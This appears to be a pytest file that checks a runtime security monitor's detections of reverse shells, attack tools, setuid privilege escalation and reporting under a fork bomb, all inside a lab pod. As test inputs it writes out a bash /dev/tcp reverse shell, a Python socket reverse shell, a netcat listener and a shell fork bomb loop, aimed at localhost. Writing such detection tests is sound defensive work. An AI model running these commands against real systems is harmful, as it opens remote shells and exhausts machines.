"""Built-in detections on real processes in a lab pod: reverse shells, tools, escalation, fork bomb."""

from __future__ import annotations

import os
import subprocess
import sys
import time
from collections.abc import Callable

from core.lookup import Mode
from runtime import detections
from runtime.profiles import ProcessEntry
from tests.runtime.conftest import Harness, kill_tree, spawn_in, wait_for
from tests.runtime.support import BASE, copy_bin, in_pod, policy, settings

ANYTHING = (ProcessEntry("*"),)
PYTHON = os.path.realpath(sys.executable)  # the interpreter itself, not a wrapper script


def _listener(netns: str, port: int) -> subprocess.Popen[bytes]:
    code = (
        "import socket,time\n"
        "s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)\n"
        f"s.bind(('127.0.0.1',{port})); s.listen(); print('up', flush=True)\n"
        "c,_=s.accept(); time.sleep(5)\n"
    )
    p = spawn_in(netns, PYTHON, "-c", code, stdout=subprocess.PIPE)
    assert p.stdout is not None and p.stdout.readline().strip() == b"up"
    return p


def test_reverse_shell_bash_dev_tcp(netns: str, harness: Callable[..., Harness]) -> None:
    h = harness(settings(), policy(netns, Mode.MONITOR, ANYTHING))
    lst = _listener(netns, 4444)
    sh = spawn_in(netns, "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1", stderr=subprocess.DEVNULL)
    try:
        ev = h.wait(type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL)
        assert ev, h.snapshot()
        assert ev[0]["detail"] == "127.0.0.1:4444" and ev[0]["name"] == detections.REVERSE_SHELL
        assert ev[0]["severity"] == "critical" and ev[0]["action"] == "alert"
        assert ev[0]["workload"] == f"netns:{netns}"
    finally:
        kill_tree([sh.pid, lst.pid])
        sh.wait(5)
        lst.wait(5)


def test_reverse_shell_python_sockets(netns: str, harness: Callable[..., Harness]) -> None:
    h = harness(settings(), policy(netns, Mode.MONITOR, ANYTHING))
    lst = _listener(netns, 4445)
    code = (
        "import socket,os,subprocess\n"
        "s=socket.create_connection(('127.0.0.1',4445))\n"
        "[os.dup2(s.fileno(),f) for f in (0,1,2)]\n"
        "subprocess.call(['/bin/sh','-i'])\n"
    )
    py = spawn_in(netns, PYTHON, "-c", code)
    try:
        ev = h.wait(type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL)
        assert ev and ev[0]["detail"] == "127.0.0.1:4445"
        assert ev[0]["chain"][0]["name"].startswith("python")  # type: ignore[index]
    finally:
        kill_tree([py.pid, lst.pid])
        py.wait(5)
        lst.wait(5)


def test_a_shell_on_a_pipe_is_not_a_reverse_shell(netns: str, harness: Callable[..., Harness]) -> None:
    h = harness(settings(reverse_shell_recheck_s=0.05), policy(netns, Mode.MONITOR, ANYTHING))
    r = in_pod(netns, "echo 'sleep 0.3' | bash")
    assert r.returncode == 0
    time.sleep(0.5)
    assert not h.find(type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL)


def test_suspicious_tools_and_package_manager(netns: str, harness: Callable[..., Harness], tmp_path) -> None:
    d = str(tmp_path)
    nmap = copy_bin("sleep", d, "nmap")
    apt = copy_bin("sleep", d, "apt-get")
    nc = os.path.join(d, "nc")
    with open(nc, "w") as f:
        f.write("#!/bin/sh\nsleep 0.3\n")
    os.chmod(nc, 0o755)
    h = harness(settings(), policy(netns, Mode.MONITOR, ANYTHING))
    assert in_pod(netns, f"{nmap} 0.3; {apt} 0.3; {nc} 198.18.0.1 80; {nc} -lvp 4444").returncode == 0
    tools = wait_for(
        lambda: len(h.find(type="threat", name=detections.SUSPICIOUS_PROCESS, workload=f"netns:{netns}")) >= 2
    )
    assert tools
    ours = f"netns:{netns}"  # other workloads on this node may run tools too
    found = {
        (e["detail"], str(e["cmdline"]).split()[-1])
        for e in h.find(type="threat", name=detections.SUSPICIOUS_PROCESS, workload=ours)
    }
    assert found == {("nmap", "'0.3']"), ("nc", "'4444']")}  # nc as a plain client is not reported
    pm = h.wait(type="threat", workload=f"netns:{netns}", name=detections.PACKAGE_MANAGER)
    assert pm and pm[0]["detail"] == "apt-get" and pm[0]["severity"] == "medium"


def test_privilege_escalation_through_a_setuid_binary(
    netns: str, harness: Callable[..., Harness], exec_mount: str
) -> None:
    suid = copy_bin("sleep", exec_mount, "rt-suid")
    os.chmod(suid, 0o4755)
    h = harness(settings(), policy(netns, Mode.MONITOR, ANYTHING))
    drop = "setpriv --reuid=65534 --regid=65534 --clear-groups"
    assert in_pod(netns, f"{drop} {suid} 0.3; {drop} sleep 0.3").returncode == 0
    ev = h.wait(type="threat", workload=f"netns:{netns}", name=detections.PRIVILEGE_ESCALATION)
    assert ev, h.snapshot()
    assert ev[0]["name"] == detections.PRIVILEGE_ESCALATION
    # Seen through the UID event of the setuid exec or the exec itself, whichever the kernel sends first.
    assert ev[0]["process_name"] == "rt-suid" and "65534" in str(ev[0]["detail"])
    assert ev[0]["uid"] == 65534 and ev[0]["euid"] == 0 and ev[0]["path"] == suid
    assert (
        len(h.find(type="threat", workload=f"netns:{netns}", name=detections.PRIVILEGE_ESCALATION)) == 1
    )  # not the plain sleep


def test_reverse_shell_is_killed_in_protect(netns: str, harness: Callable[..., Harness]) -> None:
    h = harness(settings(), policy(netns, Mode.PROTECT, (*BASE, ProcessEntry("python3*"))))
    lst = _listener(netns, 4446)
    sh = spawn_in(netns, "bash", "-c", "bash -i >& /dev/tcp/127.0.0.1/4446 0>&1", stderr=subprocess.DEVNULL)
    try:
        assert h.wait(
            type="threat", workload=f"netns:{netns}", name=detections.REVERSE_SHELL, action="killed"
        )
        assert sh.wait(5) != 0
    finally:
        kill_tree([sh.pid, lst.pid])
        lst.wait(5)


def test_fork_bomb_in_a_pids_cgroup_does_not_stop_reporting(
    netns: str, pids_cgroup: str, harness: Callable[..., Harness], tmp_path
) -> None:
    with open(os.path.join(pids_cgroup, "pids.max"), "w") as f:
        f.write("64")
    forbidden = copy_bin("sleep", str(tmp_path), "forbidden")
    h = harness(settings(), policy(netns, Mode.MONITOR))
    bomb = spawn_in(
        netns,
        "timeout",
        "4",
        "sh",
        "-c",
        "while :; do sh -c 'sleep 2' & done",
        cgroup=pids_cgroup,
        stderr=subprocess.DEVNULL,
    )
    try:
        time.sleep(1.0)
        t0 = time.monotonic()
        assert in_pod(netns, f"{forbidden} 0.1").returncode == 0
        ev = h.wait(10, type="process", action="violation", name="forbidden")
        assert ev, h.counters
        print(f"violation reported {time.monotonic() - t0:.2f}s after the exec, under a fork bomb")
    finally:
        kill_tree([bomb.pid])
        bomb.wait(10)
